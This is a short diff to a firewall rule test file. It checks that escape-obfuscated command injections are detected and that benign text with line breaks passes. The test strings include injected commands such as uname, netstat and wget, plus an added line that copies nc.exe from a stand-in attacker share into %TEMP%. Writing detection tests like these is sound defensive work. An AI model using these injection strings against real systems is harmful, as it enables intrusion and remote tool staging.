@@ -12,6 +12,8 @@ describe("edge.waf.rules hundred-and-fifty-first set on", function()
     it("commands: a word spelled with escapes hides its \\n too, a JSON line break between words stays one",
         function()
             caught_by(132100, { ";u\\n\\a\\m\\e -a", "|\\n\\e\\t\\s\\t\\a\\t -an", "&& \\w\\g\\e\\t -q x" })
+            -- a UNC path's backslashes stay separators: the share is still read as one
+            caught_by(132140, { "&& copy \\\\evil.example\\share\\nc.exe %TEMP%" })
             clean({ "first line\\nsecond line", "done.\\nNext: c:\\new folder", "a\\r\\nb" })
         end)
 
